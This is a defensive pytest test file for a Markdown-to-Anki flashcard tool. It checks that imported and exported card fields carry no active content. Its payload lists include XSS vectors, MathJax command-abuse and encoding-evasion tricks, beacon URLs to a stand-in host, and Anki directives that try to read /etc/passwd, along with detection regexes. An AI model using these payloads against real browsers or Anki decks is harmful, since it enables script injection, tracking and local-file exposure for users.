"""Nothing active reaches a card: every attack, by every reader, and what a browser and Anki would do with it."""

from __future__ import annotations

import html
import json
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from command import run, write
from genai_cards.cards.active import inert
from genai_cards.cards.svg import cleaned_svg
from reading import drafts, problems

ACTS = re.compile(
    r"\\(?:href|url|class|cssId|style|data|html[A-Za-z]*|require|includegraphics|mmlToken|toggle|mathtip|texttip"
    r"|[gex]?def|let|(?:re)?newcommand|providecommand|(?:re)?newenvironment|Declare\w+|Newextarrow|definecolor"
    r"|mathtoolsset)(?![A-Za-z])|\\bbox\s*\[[^\]]*:|\\unicode\s*\[|\\fcolorbox\s*\{[^}]*;"
)
ANKI_ACTS = re.compile(r"\[(?:sound:|anki:|type:|/?latex\]|/?\$\$?\])", re.IGNORECASE)
OURS = re.compile(r"gc-[\w-]+|language-\S+|h[cksnf]")
SHOWN = set(
    "a abbr b bdi bdo blockquote br code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img"
    " ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td th thead tr u ul"
    " var acronym article aside bdi caption center cite col colgroup data dl footer header hgroup nav strike"
    " tfoot time tt"
    " wbr".split()
)


class Card(HTMLParser):
    """Reads a field as a browser does, and notes what would act."""

    def __init__(self, field: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.code = 0
        self.text = ""
        self.feed(field)
        self.close()
        self.end_text()

    def end_text(self) -> None:
        begins = re.search(r"\\[(\[]", self.text)
        if begins and (command := ACTS.search(self.text, begins.start())):
            self.found.append(f"{command[0]} in {self.text}")
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ("br", "wbr"):
            self.end_text()
        self.code += tag in ("pre", "code")
        if tag not in SHOWN:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            told = value or ""
            if (
                name.startswith("on")
                or name in ("id", "srcset", "poster", "ping", "background", "action", "formaction", "target")
                or (name == "style" and not re.fullmatch(r"text-align:\s*\w+;?", told))
                or (name == "class" and not all(map(OURS.fullmatch, told.split())))
                or (name == "href" and not re.match(r"https?://|mailto:", told))
                or (name == "src" and not re.fullmatch(r"[\w.-]+-[0-9a-f]{12}\.\w+", told))
            ):
                self.found.append(f"{name}={told}")

    def handle_endtag(self, tag: str) -> None:
        self.end_text()
        self.code -= tag in ("pre", "code")

    def handle_data(self, data: str) -> None:
        if not self.code:
            self.text += data


def active(field: str) -> list[str]:
    """Give all that would act in a field."""
    return [*Card(field).found, *ANKI_ACTS.findall(field)]


FORMULAS = [
    r"\href{javascript:alert(1)}{x}",
    r"\href {https://beacon.invalid}{x}",
    r"\\href{javascript:alert(1)}{x}",
    r"\text{$\href{javascript:alert(1)}{x}$}",
    r"\style{background:url(https://beacon.invalid/b)}{x}",
    r"\class{nightMode}{x}",
    r"\cssId{qa}{x}",
    r"\require{html}\data{a=b}{x}",
    r"\htmlStyle{position:fixed}{x}",
    r"\bbox[background:url(https://beacon.invalid/b)]{x}",
    r"\bbox[5px, border:1px solid;background:url([)]{x}",
    r"\unicode[a;background:url(https://beacon.invalid/b)]{x41}",
    r"\fcolorbox{red;background:url(https://beacon.invalid/b)}{white}{x}",
    r'\mmlToken{mi}[href="javascript:alert(1)"]{x}',
    r"\includegraphics[width=3]{https://beacon.invalid/b.png}",
    r"\url{javascript:alert(1)}",
    r"\def\x{\href}\x{javascript:alert(1)}{x}",
    r"\let\x=\href\x{javascript:alert(1)}{x}",
    r"\let\x\style \x{background:url(https://beacon.invalid/b)}{x}",
    r"\newcommand{\x}[2]{\h#1}\x{ref}{javascript:alert(1)}{x}",
    r"\renewcommand\frac[2]{wrong}",
    r"\newenvironment{matrix}{\href{javascript:alert(1)}}{}",
    r"\DeclareMathOperator{\sin}{cos}",
    r"\DeclarePairedDelimiter\abs{\lvert}{\rvert}",
    r"\definecolor{red}{named}{blue;background:url(https://beacon.invalid/b)}",
    r"\toggle{a}{b}\endtoggle \mathtip{a}{b} \texttip{a}{b}",
    r"\h\href{}ref{javascript:alert(1)}{x}",
    r"\hr\require{a}ef{javascript:alert(1)}{x}",
]

SPLIT = [
    r"\<wbr>(\href{javascript:alert(1)}{x}\<wbr>)",
    r"\<!-- -->(\href{javascript:alert(1)}{x}\<!-- -->)",
    r"\<font>(\href{javascript:alert(1)}{x}\</font>)",
    r"\&#40;\href{javascript:alert(1)}{x}\&#41;",
    r"&#92;(&#92;&#104;ref{javascript:alert(1)}{x}&#92;)",
    r"&bsol;[&bsol;style{background:url(a)}{x}&bsol;]",
    r"\\(\href{javascript:alert(1)}{x}\\)",
    r"\\\(\\href{javascript:alert(1)}{x}\\\)",
    r"$a{$ \href{javascript:alert(1)}{x} $}$",
    r"$a{$<br>\href{javascript:alert(1)}{x}<br>$}$",
    r"<code class='mathjax_process'>\(\href{javascript:alert(1)}{x}\)</code>",
    r"<pre class='tex2jax_process'>\(\href{javascript:alert(1)}{x}\)</pre>",
    r"<b title='a><code>'>\(\href{javascript:alert(1)}{x}\)</b>",
    r"<anki-mathjax>\href{javascript:alert(1)}{x}</anki-mathjax>",
    r"<div>\(\hr<wbr>ef{javascript:alert(1)}{x}\)</div>",
    r"<div>\(\hr<!-- -->ef{javascript:alert(1)}{x}\)</div>",
    r"<div>\(\hr<object></object>ef{javascript:alert(1)}{x}\)</div>",
    r"<script type='math/tex'>\href{javascript:alert(1)}{x}</script>",
]

DIRECTIVES = [
    "[latex]\\input{/etc/passwd}[/latex]",
    "[$]\\input{/etc/passwd}[/$]",
    "[$$]\\input{/etc/passwd}[/$$]",
    "[LaTeX]x[/LATEX]",
    "`[latex]x[/latex]`",
    "[sound:http://beacon.invalid/a.mp3]",
    "[sound<!-- -->:/etc/passwd]",
    "[sound:a-0123456789ab.mp3]",
    "[anki:tts lang=en_US] hear [/anki:tts]",
    "[anki:play:q:0]",
    "[[type:Answer]]",
    "&#91;sound:/etc/passwd]",
    "\\[latex]x\\[/latex]",
    "$[latex]x[/latex]$",
]

ELEMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//beacon.invalid></SCRIPT>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#115;cript:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//beacon.invalid" ping="https://beacon.invalid" target="_top" onclick=alert(1)>x</a>',
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "<iframe src='https://beacon.invalid'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://beacon.invalid'></object>",
    "<embed src='https://beacon.invalid'>",
    "<form action='https://beacon.invalid'><button formaction='javascript:alert(1)'>x</button></form>",
    "<base href='https://beacon.invalid/'>",
    "<meta http-equiv='refresh' content='0;url=https://beacon.invalid'>",
    "<link rel=stylesheet href='https://beacon.invalid/a.css'>",
    "<style>@import 'https://beacon.invalid/a.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'><mi>x</mi></maction></math>",
    "<math href='javascript:alert(1)'><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<svg onload=alert(1)><script>alert(1)</script><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "<img src=x onerror=alert(1) srcset='https://beacon.invalid/a 2x'>",
    "<img src='https://beacon.invalid/a.png'>",
    "![x](https://beacon.invalid/a.png)",
    "<picture><source srcset='https://beacon.invalid/a.png'><img src=a.png></picture>",
    "<video poster='https://beacon.invalid/a.png' src='https://beacon.invalid/a.mp4' autoplay></video>",
    "<audio src='https://beacon.invalid/a.mp3' autoplay></audio>",
    "<p style='background:url(https://beacon.invalid)'>x</p>",
    "<p style='background-image:image-set(\"https://beacon.invalid\" 1x);position:fixed'>x</p>",
    "<table><tr><td style='text-align:left;background:u\\72l(//beacon.invalid)' background='//x'>x</td></tr></table>",
    "<div id=qa class='card nightMode mathjax_process'>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<x-y onmouseover=alert(1)>x</x-y>",
    "<ruby>x<rt onclick=alert(1)>y</rt></ruby>",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
]

ATTACKS = [
    *(f"${formula}$" for formula in FORMULAS),
    *(rf"\({formula}\)" for formula in FORMULAS),
    *(rf"<div>\[{formula}\]</div>" for formula in FORMULAS),
    *SPLIT,
    *DIRECTIVES,
    *ELEMENTS,
]

CLOZES = "---\ncards: [structure, cloze, headings, parts, items, reverse, rows]\n---\n# Page\n\n"

PAGES = {
    "an answer": "# Page\n\n## What is it?\n\nbefore\n\n{}\n\nafter\n",
    "a line": "# Page\n\n## What is it?\n\nbefore {} after\n",
    "a heading": "# Page\n\n## What is {}?\n\nAn answer.\n",
    "a title": "# Page {}\n\n## What is it?\n\nAn answer.\n",
    "a label": "# Page\n\n- **Term**: a text {} more\n- **Other {} term**: a text\n",
    "a table": "# Page\n\n| Name | What |\n| --- | --- |\n| One | a {} b |\n| {} | two |\n",
    "a quotation": "# Page\n\n## What is it?\n\n> before\n>\n> {}\n",
    "a footnote": "# Page\n\n## What is it?\n\nA text[^1].\n\n[^1]: note {} note\n",
    "a cloze": CLOZES + "Here a ==hole== is, and {} stands.\n",
    "a hole": CLOZES + "Here ==a {} hole== is, and text stands.\n",
    "a picture's text": "# Page\n\n## What is it?\n\nA text ![{}](nothing.png) here.\n",
    "the front matter": "---\nsource: {}\n---\n# Page\n\n## What is it?\n\nA text.\n",
}


def filled(page: str, attack: str) -> str:
    """Put an attack into a page; one of several lines stays in the item or quotation that it is put into."""
    inside = attack.replace("\n", "\n> ") if "> {}" in page else attack
    return page.replace("{}", inside)


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_nothing_acts_that_stands_in_a_page(page: str) -> None:
    fields = [
        (attack, field)
        for attack in ATTACKS
        for draft in drafts(filled(page, attack))
        for field in (*draft.fields.values(), draft.citation)
    ]

    assert len(fields) > len(ATTACKS)
    assert [(found, attack, field) for attack, field in fields for found in active(field)] == []


FILES = {
    "page.txt": ("What is thing {n}?\n{attack}\n\n", ""),
    "list.csv": ('Thing {n},"{quoted}"\n', "Front,Back\n"),
    "list.tsv": ("Thing {n}\t{attack}\n", ""),
    "page.html": ("<h3>What is thing {n}?</h3><p>before</p><div>{attack}</div><p>after</p>\n", "<h1>Page</h1>\n"),
    "text.html": ("<h3>What is thing {n}?</h3><p>before {escaped} after</p>\n", "<h1>Page</h1>\n"),
    "plain.md": ("## What is thing {n}?\n\n{attack}\n\n", "# Page\n\n"),
}


@pytest.mark.parametrize("name", FILES)
def test_nothing_acts_that_is_imported(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    form, head = FILES[name]
    lines = [attack.replace("\n", " ") for attack in ATTACKS]
    text = head + "".join(
        form.format(n=n, attack=attack, quoted=attack.replace('"', '""'), escaped=html.escape(attack))
        for n, attack in enumerate(lines)
    )
    write(name, text)

    if name != "plain.md":
        assert run("import", name, "-o", "imported.md").returncode < 2
    ended = run("export", "plain.md" if name == "plain.md" else "imported.md", "-o", "notes.json")

    assert ended.returncode < 2, ended.stderr
    exported = json.loads(Path("notes.json").read_text("utf-8"))
    fields = [field for note in exported["notes"] for field in note["fields"].values()]
    assert len(fields) > len(lines)
    assert [(found, field) for field in fields for found in active(field)] == []


HEADINGS = "---\ncards: headings\n---\n# P\n\n## What is it?\n\n"

KEPT = [
    r"\color{red}{x} \textcolor{#ff0000}{y} \colorbox{yellow}{z} \fcolorbox{red}{white}{x}",
    r"\boxed{x} \bbox[yellow, 5px]{x} \bbox{x} \text{a \& b} \operatorname{arg\,max}_x",
    r"\begin{align} a &= b \\ c &< d \\[2pt] e \newline f \end{align}",
    r"\ce{H2O + CO2 <=> H2CO3} \cancel{x} \unicode{x263a} \definite \letter \classes",
    r"\left\{ \frac{1}{2} \middle| \sqrt[3]{x} \right\} \tag{1} \label{a} \eqref{a}",
    r"\enclose{circle}[mathcolor=red]{x} \mathbb{R} \xrightarrow[a]{b} \binom{n}{k}",
]


@pytest.mark.parametrize("tex", KEPT)
def test_a_formula_that_does_not_act_is_kept_as_it_is(tex: str) -> None:
    (draft,) = drafts(f"{HEADINGS}$$\n{tex}\n$$\n")

    assert draft.back == rf"<div>\[{html.escape(tex, quote=False)}\]</div>"
    assert problems(f"{HEADINGS}$$\n{tex}\n$$\n", severity="warning") == []


@pytest.mark.parametrize(
    ("tex", "shown"),
    [
        (r"\href{javascript:alert(1)}{\text{more}}", r"{\text{more}}"),
        (r"\style{background:url(https://a.invalid/b)}{x}", "{x}"),
        (r"\class{a}{x} \cssId{b}{y}", "{x} {y}"),
        (r"x \require{html} \unicode[a]{x41} y", "x   y"),
        (r"\href {a{b}c}{x}", "{x}"),
        (r"\hr\href{}ef{a}{x}", r"\hr ef{a}{x}"),
        (r"\bbox[5px, background:url(a)]{x}", "{x}"),
        (r"\href{open", "{open"),
        (r"\mathtip{x}{a tip}", "{x}{a tip}"),
        (r"\def\R#1{\mathbb{R}^{#1}} x", " x"),
        (r"\newcommand{\R}[1]{\mathbb{R}^{#1}}x", "x"),
        (r"\let\a = \b x", " x"),
        (r"\DeclareMathOperator*{\argmax}{arg\,max} x", " x"),
    ],
)
def test_what_acts_is_taken_out_of_a_formula_and_told(tex: str, shown: str) -> None:
    page = f"{HEADINGS}A text.\n\n$$\n{tex}\n$$\n"
    (draft,) = drafts(page)
    told = problems(page, severity="warning")

    assert draft.back == "<p>A text.</p>\n" rf"<div>\[{shown}\]</div>"
    assert {(problem.code, str(problem.at)) for problem in told} == {("math-active", "page.md:11:1")}
    assert r"\require" not in " ".join(problem.message for problem in told)


def test_a_command_is_told_once_of_a_line_however_many_cards_show_it() -> None:
    page = "---\ncards: [structure, reverse]\n---\n# P\n\n## Words\n\n- **Term**: a $\\href{a}{x}$ text\n"

    assert [problem.code for problem in problems(page, severity="warning")] == ["math-active"]


def test_a_text_that_names_a_command_keeps_it() -> None:
    (draft,) = drafts("# P\n\n## What is it?\n\nSo \\href{a}{b} links $x$, as \\def does `\\(\\href{a}{b}\\)`.\n")

    assert "\\<span></span>href{a}{b} links \\(x\\), as \\<span></span>def does" in draft.back
    assert "<code>&#92;(\\href{a}{b}&#92;)</code>" in draft.back
    assert problems("# P\n\n## What is it?\n\nSo \\href{a}{b} links $x$, as \\def does.\n") == []


def test_the_name_of_a_page_is_no_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    write("a\\(\\style{color:red}{x}\\)[latex].md", "# P\n\n## What is it?\n\nA text.\n")

    assert run("export", "a\\(\\style{color:red}{x}\\)[latex].md", "-o", "notes.json").returncode == 0

    (note,) = json.loads(Path("notes.json").read_text("utf-8"))["notes"]
    assert [found for field in note["fields"].values() for found in active(field)] == []
    assert "style{color:red}" in note["fields"]["Source"]


@pytest.mark.parametrize(
    "again", ["<code>x", "<b>x", r"\href{", r"\href", r"\newcommand{\x}[1]", r"\bbox[", "<wbr>", r"\("]
)
def test_a_field_is_filtered_in_linear_time(again: str) -> None:
    field = rf"\({again * (200_000 // len(again))}\)"
    before = time.process_time()

    inert(field)

    assert time.process_time() - before < 5  # each takes about one second at most; what is quadratic, minutes


@pytest.mark.parametrize("style", ["a(" * 100_000, "a" * 200_000, "(" * 200_000, "url(" * 50_000])
def test_a_drawing_is_cleaned_in_linear_time(style: str) -> None:
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg"><g style="{style}"/></svg>'
    before = time.process_time()

    assert cleaned_svg(drawing.encode()) is not None
    assert time.process_time() - before < 5
